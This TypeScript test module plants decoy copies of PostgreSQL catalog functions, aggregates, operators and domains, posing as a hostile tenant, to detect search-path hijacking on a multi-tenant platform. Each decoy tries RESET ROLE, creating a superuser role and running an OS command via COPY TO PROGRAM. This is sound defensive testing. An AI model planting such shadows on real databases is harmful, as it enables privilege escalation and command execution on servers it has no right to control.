/**
 * What a hostile tenant owner plants: for every catalog function and operator name the platform's
 * SQL uses (platform-sql-catalog.ts), a function / aggregate / operator of the same name and the
 * same argument types as each `pg_catalog` overload, in `public` and in a schema of its own. Each
 * one, when run, logs who ran it (`BULWARK-SHADOW-RAN current_user/session_user`, the shadow and
 * the top-level statement), tries to get back to the session user (`RESET ROLE`), to create a
 * superuser role and to run an OS command (`COPY … TO PROGRAM 'touch …'`), each inside an
 * exception block, and then returns what the real `pg_catalog` function returns, so nothing else
 * breaks. Everything in the bodies is `pg_catalog.`-qualified: a shadow never calls a shadow.
 *
 * The line is raised at level LOG, not WARNING: the cluster keeps WARNING and ERROR out of
 * postgres.log on purpose (they quote tenant literals), while LOG lines are always written.
 */
import type pg from 'pg';

export const SHADOW_MARK = 'BULWARK-SHADOW-RAN';

export type Planted = {
  /** Objects made, per kind. */
  functions: number;
  aggregates: number;
  operators: number;
  /** Domains named like a catalog type the platform casts to (`::text`), checked by a shadow. */
  types: number;
  /** What PostgreSQL refused (or we could not express), with why. */
  refused: { object: string; reason: string }[];
  /** Shadow number → what it shadows (`public.format_type(oid, integer)`). */
  index: Map<number, string>;
};

type ProcRow = {
  oid: number;
  name: string;
  kind: string;
  args: string;
  identity: string;
  result: string;
  retset: boolean;
  in_args: number;
  variadic: boolean;
  void: boolean;
  transfn: string | null;
  transtype: string | null;
  initval: string | null;
  finalfn: boolean;
  agg_args: string | null;
};

type OprRow = { name: string; left: string | null; right: string; result: string; code: string };

const quoteIdent = (s: string) => `"${s.replaceAll('"', '""')}"`;
const quoteLit = (s: string) => `'${s.replaceAll("'", "''")}'`;

/** The body every shadow shares; `ret` is the plpgsql that returns the real result. */
function body(n: number, token: string, what: string, touchDir: string, ret: string): string {
  const pwned = `bulwark_pwned_${n}`;
  const touch = `COPY (SELECT 1) TO PROGRAM ${quoteLit(`touch ${touchDir}/shadow-${n}`)}`;
  // Once per shadow, statement and session (an operator run row by row would otherwise fork a
  // shell per row): a custom setting named after the shadow and a hash of the statement remembers.
  return `$bulwark$
DECLARE
  seen pg_catalog.text := pg_catalog.textcat('bulwark_shadow.s${n}_',
    pg_catalog.substr(pg_catalog.md5(pg_catalog.current_query()), 1, 12));
BEGIN
  IF pg_catalog.current_setting(seen, true) IS NULL THEN
    PERFORM pg_catalog.set_config(seen, 'ran', false);
    RAISE LOG '${SHADOW_MARK} %/% ${token} #${n} ${what.replaceAll("'", "''")} q=%', current_user, session_user,
      pg_catalog.regexp_replace(pg_catalog.substr(pg_catalog.current_query(), 1, 600), E'\\\\s+', ' ', 'g');
    BEGIN EXECUTE 'RESET ROLE'; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE ${quoteLit(`CREATE ROLE ${pwned} SUPERUSER`)}; EXCEPTION WHEN OTHERS THEN NULL; END;
    BEGIN EXECUTE ${quoteLit(touch)}; EXCEPTION WHEN OTHERS THEN NULL; END;
  END IF;
  ${ret}
END $bulwark$`;
}

/** Reads the `pg_catalog` overloads of `names` and the operators `ops` (run before any setting is planted). */
async function catalog(c: pg.ClientBase, names: string[], ops: string[]) {
  const procs = await c.query<ProcRow>(
    `SELECT p.oid::int AS oid, p.proname AS name, p.prokind::text AS kind,
            pg_catalog.pg_get_function_arguments(p.oid) AS args,
            pg_catalog.pg_get_function_identity_arguments(p.oid) AS identity,
            pg_catalog.pg_get_function_result(p.oid) AS result, p.proretset AS retset,
            pg_catalog.cardinality(pg_catalog.array_remove(pg_catalog.array_remove(
              coalesce(p.proargmodes::pg_catalog.text[], pg_catalog.array_fill('i'::pg_catalog.text, ARRAY[p.pronargs::int])),
              'o'), 't')) AS in_args,
            p.provariadic OPERATOR(pg_catalog.<>) 0 AS variadic,
            p.prorettype OPERATOR(pg_catalog.=) 'pg_catalog.void'::pg_catalog.regtype AS void,
            a.aggtransfn::pg_catalog.text AS transfn,
            pg_catalog.format_type(a.aggtranstype, NULL) AS transtype, a.agginitval AS initval,
            a.aggfinalfn OPERATOR(pg_catalog.<>) 0 AS finalfn,
            (SELECT pg_catalog.string_agg(pg_catalog.format_type(t, NULL), ', ' ORDER BY i)
               FROM pg_catalog.unnest(p.proargtypes) WITH ORDINALITY AS u(t, i)) AS agg_args
       FROM pg_catalog.pg_proc p
       LEFT JOIN pg_catalog.pg_aggregate a ON a.aggfnoid OPERATOR(pg_catalog.=) p.oid
      WHERE p.pronamespace OPERATOR(pg_catalog.=) 'pg_catalog'::pg_catalog.regnamespace
        AND p.proname OPERATOR(pg_catalog.=) ANY($1::pg_catalog.name[])
      ORDER BY p.proname, p.oid`,
    [names],
  );
  const oprs = await c.query<OprRow>(
    `SELECT o.oprname AS name,
            CASE WHEN o.oprleft OPERATOR(pg_catalog.=) 0 THEN NULL ELSE pg_catalog.format_type(o.oprleft, NULL) END AS left,
            pg_catalog.format_type(o.oprright, NULL) AS right, pg_catalog.format_type(o.oprresult, NULL) AS result,
            o.oprcode::pg_catalog.regproc::pg_catalog.text AS code
       FROM pg_catalog.pg_operator o
      WHERE o.oprnamespace OPERATOR(pg_catalog.=) 'pg_catalog'::pg_catalog.regnamespace
        AND o.oprname OPERATOR(pg_catalog.=) ANY($1::pg_catalog.name[]) AND o.oprright OPERATOR(pg_catalog.<>) 0
      ORDER BY o.oprname, o.oid`,
    [ops],
  );
  return { procs: procs.rows, oprs: oprs.rows };
}

/** Types a `"any"` argument is replaced with in the more specific overloads. */
const VARIANT_TYPES = ['text', 'name', 'oid', 'integer'];

/** Concrete argument type lists for an overload with `"any"` arguments, called with `arity` args. */
function concreteVariants(types: string[], variadic: boolean, arity: number): string[][] {
  const fixed = variadic ? types.slice(0, -1) : types;
  if (variadic ? arity < fixed.length : arity !== fixed.length) return [];
  const shape = [...fixed, ...Array.from({ length: arity - fixed.length }, () => '"any"')];
  const slots = shape.flatMap((t, i) => (t === '"any"' ? [i] : []));
  const mixes: string[][] =
    slots.length <= 3
      ? Array.from({ length: VARIANT_TYPES.length ** slots.length }, (_, combo) =>
          slots.map(
            (_, j) => VARIANT_TYPES[Math.floor(combo / VARIANT_TYPES.length ** j) % VARIANT_TYPES.length]!,
          ),
        )
      : VARIANT_TYPES.map((t) => slots.map(() => t));
  return mixes.map((mix) => shape.map((t, i) => (t === '"any"' ? mix[slots.indexOf(i)]! : t)));
}

/** `pg_catalog.x` for a regproc text that may come back qualified or not. */
const qualified = (regproc: string) =>
  regproc.startsWith('pg_catalog.') ? regproc : `pg_catalog.${regproc.split('.').map(quoteIdent).join('.')}`;

/** Plants every shadow in each of `schemas` through `c` (the tenant owner's own session). */
export async function plantShadows(
  c: pg.ClientBase,
  input: {
    names: string[];
    operators: string[];
    types: string[];
    /** Function name → the argument counts the platform calls it with (for `"any"` overloads). */
    arities: Map<string, number[]>;
    schemas: string[];
    token: string;
    touchDir: string;
  },
): Promise<Planted> {
  const { procs, oprs } = await catalog(c, input.names, input.operators);
  const types = (
    await c.query<{ name: string }>(
      `SELECT t.typname AS name FROM pg_catalog.pg_type t
        WHERE t.typnamespace OPERATOR(pg_catalog.=) 'pg_catalog'::pg_catalog.regnamespace
          AND t.typtype OPERATOR(pg_catalog.=) 'b' AND t.typname OPERATOR(pg_catalog.=) ANY($1::pg_catalog.name[])
        ORDER BY 1`,
      [input.types],
    )
  ).rows.map((r) => r.name);
  const out: Planted = { functions: 0, aggregates: 0, operators: 0, types: 0, refused: [], index: new Map() };
  let n = 0;
  const attempt = async (object: string, sql: string[]): Promise<boolean> => {
    try {
      await c.query('BEGIN');
      for (const s of sql) await c.query(s);
      await c.query('COMMIT');
      return true;
    } catch (err) {
      await c.query('ROLLBACK').catch(() => {});
      out.refused.push({ object, reason: (err as Error).message.slice(0, 200) });
      return false;
    }
  };
  for (const schema of input.schemas) {
    const s = quoteIdent(schema);
    const aggregate = async (p: ProcRow, argTypes: string[]) => {
      const what = `${schema}.${p.name}(${argTypes.length ? argTypes.join(', ') : '*'})`;
      const id = ++n;
      out.index.set(id, what);
      if (
        !p.transfn ||
        p.finalfn ||
        p.transtype === 'internal' ||
        argTypes.some((t) => /"any"|internal/.test(t))
      ) {
        out.refused.push({ object: what, reason: 'aggregate with a final function or internal/"any" types' });
        return;
      }
      // A shadow transition function behind CREATE AGGREGATE of the same signature.
      const sfunc = `${s}.bulwark_shadow_sfunc_${id}`;
      const params = [p.transtype, ...argTypes];
      const call = `${qualified(p.transfn)}(${params.map((_, i) => `$${i + 1}`).join(', ')})`;
      const ok = await attempt(what, [
        `CREATE OR REPLACE FUNCTION ${sfunc}(${params.join(', ')}) RETURNS ${p.transtype} LANGUAGE plpgsql AS ${body(id, input.token, what, input.touchDir, `RETURN ${call};`)}`,
        `CREATE AGGREGATE ${s}.${quoteIdent(p.name)}(${argTypes.length ? argTypes.join(', ') : '*'}) (SFUNC = ${sfunc}, STYPE = ${p.transtype}${p.initval === null ? '' : `, INITCOND = ${quoteLit(p.initval)}`})`,
      ]);
      if (ok) out.aggregates++;
    };
    const fn = async (p: ProcRow, params: string, label: string, args: string) => {
      const what = `${schema}.${p.name}(${label})`;
      const id = ++n;
      out.index.set(id, what);
      const real = `pg_catalog.${quoteIdent(p.name)}(${args})`;
      const ret = p.retset
        ? `RETURN QUERY SELECT * FROM ${real}; RETURN;`
        : p.void
          ? `PERFORM ${real}; RETURN;`
          : `RETURN ${real};`;
      const ok = await attempt(what, [
        `CREATE FUNCTION ${s}.${quoteIdent(p.name)}(${params}) RETURNS ${p.result} LANGUAGE plpgsql AS ${body(id, input.token, what, input.touchDir, ret)}`,
      ]);
      if (ok) out.functions++;
    };
    for (const p of procs) {
      const types = p.agg_args ? p.agg_args.split(', ') : [];
      if (p.kind === 'a') await aggregate(p, types);
      else if (p.kind === 'f') {
        const args = Array.from({ length: p.in_args }, (_, i) =>
          p.variadic && i === p.in_args - 1 ? `VARIADIC $${i + 1}` : `$${i + 1}`,
        ).join(', ');
        await fn(p, p.args, p.identity, args);
      } else {
        out.refused.push({
          object: `${schema}.${p.name}(${p.identity})`,
          reason: `prokind ${p.kind} not shadowed`,
        });
        continue;
      }
      // `"any"` cannot be shadowed as such, but a more specific overload wins over it (even when
      // pg_catalog comes first in the path): one per concrete type mix, at each arity called.
      if (!types.includes('"any"')) continue;
      for (const arity of input.arities.get(p.name) ?? []) {
        for (const concrete of concreteVariants(types, p.variadic, arity)) {
          if (p.kind === 'a') await aggregate(p, concrete);
          else
            await fn(
              p,
              concrete.join(', '),
              concrete.join(', '),
              concrete.map((_, i) => `$${i + 1}`).join(', '),
            );
        }
      }
    }
    for (const o of oprs) {
      const what = `${schema}.${o.name}(${o.left ?? 'NONE'}, ${o.right})`;
      const id = ++n;
      out.index.set(id, what);
      const fn = `${s}.bulwark_shadow_op_${id}`;
      const params = o.left ? `${o.left}, ${o.right}` : o.right;
      const call = `${qualified(o.code)}(${o.left ? '$1, $2' : '$1'})`;
      const ok = await attempt(what, [
        `CREATE OR REPLACE FUNCTION ${fn}(${params}) RETURNS ${o.result} LANGUAGE plpgsql AS ${body(id, input.token, what, input.touchDir, `RETURN ${call};`)}`,
        `CREATE OPERATOR ${s}.${o.name} (${o.left ? `LEFTARG = ${o.left}, ` : ''}RIGHTARG = ${o.right}, FUNCTION = ${fn})`,
      ]);
      if (ok) out.operators++;
    }
  }
  // Last (the planting session's own DDL above names these types): a domain over each catalog
  // type the platform casts to unqualified, whose CHECK runs a shadow on every cast.
  for (const schema of input.schemas) {
    const s = quoteIdent(schema);
    for (const t of types) {
      const what = `${schema}.${t} (domain)`;
      const id = ++n;
      out.index.set(id, what);
      const fn = `${s}.bulwark_shadow_dom_${id}`;
      const ok = await attempt(what, [
        `CREATE OR REPLACE FUNCTION ${fn}(v pg_catalog.${quoteIdent(t)}) RETURNS pg_catalog.bool LANGUAGE plpgsql AS ${body(id, input.token, what, input.touchDir, 'RETURN true;')}`,
        `CREATE DOMAIN ${s}.${quoteIdent(t)} AS pg_catalog.${quoteIdent(t)} CHECK (${fn}(VALUE))`,
      ]);
      if (ok) out.types++;
    }
  }
  return out;
}

/** One `BULWARK-SHADOW-RAN` line of the server log, parsed. */
export type ShadowRun = { current: string; session: string; shadow: string; query: string; line: string };

/** The shadow runs (of this `token`) in a chunk of `postgres.log`. */
export function shadowRuns(log: string, token: string): ShadowRun[] {
  const out: ShadowRun[] = [];
  const re = new RegExp(`(?:LOG|WARNING):\\s+${SHADOW_MARK} ([^/\\s]+)/(\\S+) ${token} #\\d+ (.*?) q=(.*)$`);
  for (const line of log.split('\n')) {
    const m = re.exec(line);
    if (m) out.push({ current: m[1]!, session: m[2]!, shadow: m[3]!, query: m[4]!, line });
  }
  return out;
}
